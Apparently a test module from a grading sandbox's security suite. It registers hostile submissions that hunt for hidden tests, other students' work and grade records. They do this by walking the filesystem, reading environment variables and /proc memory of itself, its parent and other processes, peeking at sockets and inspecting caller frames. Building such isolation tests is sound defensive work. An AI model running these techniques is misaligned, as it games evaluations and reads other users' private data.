"""Submissions that look for hidden tests, other submissions and the books."""

from __future__ import annotations

from functools import partial

from hostile.attack import GAIN, LOOK, Attack, add

ATTACKS: dict[str, Attack] = {}
attack = partial(add, ATTACKS)

attack(
    "reads every file in reach",
    "hidden tests, other submissions",
    first=LOOK
    + """
import os, sys
here = os.getcwd()
for top in {here, os.path.dirname(here), "/scratch", "/tmp", "/home", "/srv"}:
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", ".git", "node_modules")]
        for file in files:
            path = os.path.join(folder, file)
            if file.endswith((".ipynb", ".db", ".py", ".json")):
                try:
                    look(open(path, "rb").read(1 << 20))
                except OSError:
                    pass
""",
)
attack(
    "reads its neighbours and the books",
    "other submissions, the books",
    first=GAIN
    + """
import os
here = os.getcwd()
for top in {os.path.dirname(here), os.path.dirname(os.path.dirname(here))} - {"/"}:
    for folder, _, files in os.walk(top):
        for file in files:
            path = os.path.join(folder, file)
            mine = os.path.realpath(path).startswith(os.path.realpath(here))
            if not mine and "hostile" in path and file.endswith((".ipynb", ".db", ".html")):
                try:
                    if open(path, "rb").read(100):
                        gained("a file of somebody else's")
                except OSError:
                    pass
""",
)
attack(
    "reads environment and processes",
    "hidden tests",
    first=LOOK
    + """
import glob, os
look(os.environ)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    look(text)
    if path.split("/")[2] != str(os.getpid()) and b"tester" in text:
        print("found the tester")
""",
)
attack(
    "reads the memory it inherited",
    "hidden tests",
    first=LOOK
    + """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(end, 16) for end in span.split("-"))
        if "rw" in rights and high - low < 64 << 20:
            try:
                memory.seek(low)
                look(memory.read(high - low))
            except (OSError, ValueError, OverflowError):
                pass
""",
)
attack(
    "reads other processes' memory",
    "hidden tests",
    first=LOOK
    + """
import glob, os
for path in glob.glob("/proc/[0-9]*/mem"):
    process = path.split("/")[2]
    if int(process) in (os.getpid(),):
        continue
    try:
        maps, memory = open(f"/proc/{process}/maps"), open(path, "rb", 0)
    except OSError:
        continue
    for line in maps:
        low, high = (int(end, 16) for end in line.split()[0].split("-"))
        if "[heap]" in line and high - low < 64 << 20:
            try:
                memory.seek(low)
                look(memory.read(high - low))
            except OSError:
                pass
""",
)
attack(
    "open files and sockets",
    "hidden tests, the books",
    first=LOOK
    + """
import os, stat
for number in range(3, 256):
    try:
        mode = os.fstat(number).st_mode
        if stat.S_ISREG(mode):
            look(os.pread(number, 1 << 20, 0))
    except OSError:
        pass
""",
)
attack(
    "listens in on its sockets",
    "hidden tests",
    first=LOOK,
    f="""
def f(x):
    import os, socket
    for number in range(3, 256):
        try:
            with socket.socket(fileno=os.dup(number)) as line:
                look(line.recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        except OSError:
            pass
""",
)
attack(
    "reads its parent's memory by a system call",
    "hidden tests",
    first=GAIN
    + """
import ctypes, os
class Part(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]
try:
    line = open(f"/proc/{os.getppid()}/maps").readline()
except OSError:
    line = open("/proc/self/maps").readline()
start = int(line.split("-")[0], 16)
memory = ctypes.create_string_buffer(64)
mine, theirs = Part(ctypes.addressof(memory), 64), Part(start, 64)
libc = ctypes.CDLL(None)
if libc.process_vm_readv(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
    gained("its parent's memory")
""",
)
attack(
    "the source of the cell that calls",
    "hidden tests",
    first=LOOK,
    f="""
def f(x):
    import inspect, linecache, sys
    for lines in list(linecache.cache.values()):
        look(lines)
    frame = sys._getframe()
    while frame is not None:
        try:
            look(inspect.getsource(frame))
        except (OSError, TypeError):
            pass
        look(list(frame.f_locals.values()))
        frame = frame.f_back
""",
    last="try:\n    look(get_ipython().user_ns.get('In'))\n"
    "    look([s for _, _, s in get_ipython().history_manager.get_range()])\n"
    "except Exception as error:\n    print(type(error))",
)
attack(
    "hidden inputs kept and shown",
    "hidden tests",
    first=LOOK,
    f="""
seen = []
def f(x):
    seen.append(x)
""",
    last="look(seen)\nlook(globals())",
)
